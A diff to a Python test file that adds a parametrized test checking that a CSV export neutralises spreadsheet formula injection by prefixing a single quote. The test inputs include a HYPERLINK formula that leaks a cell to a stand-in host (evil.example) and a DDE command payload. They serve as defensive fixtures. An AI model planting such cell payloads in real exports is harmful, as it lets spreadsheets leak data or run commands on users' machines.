@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import csv
+import dataclasses
 import io
 import json
 
 import geopandas as gpd
 import pandas as pd
+import pytest
 
 from circlemap import export, views
 from circlemap.filters import Selection
@@ -62,3 +65,29 @@ def test_csv_in_english_filters_like_the_measures_table(catalog):
     assert list(frame["id"]) == ["m2"]
     assert frame.loc[0, "category_label"] == "Health"
     assert frame.loc[0, "cities_label"] == "Jinan"
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(catalog, hostile):
+    measures = catalog.measures.copy()
+    measures.loc["m1", "title_zh"] = hostile
+    measures.loc["m1", "quote"] = hostile
+    hostile_catalog = dataclasses.replace(catalog, measures=measures)
+    data = export.export(hostile_catalog, Selection(), lang="zh", fmt="csv", today=TODAY)
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    row = next(r for r in rows if r["id"] == "m1")
+    for column in ("title", "title_zh", "quote"):
+        # OWASP: a leading single quote makes the cell text; the text itself is kept
+        assert row[column] == "'" + hostile, column
+    other = next(r for r in rows if r["id"] == "m2")
+    assert not other["title"].startswith("'")  # ordinary cells are left alone
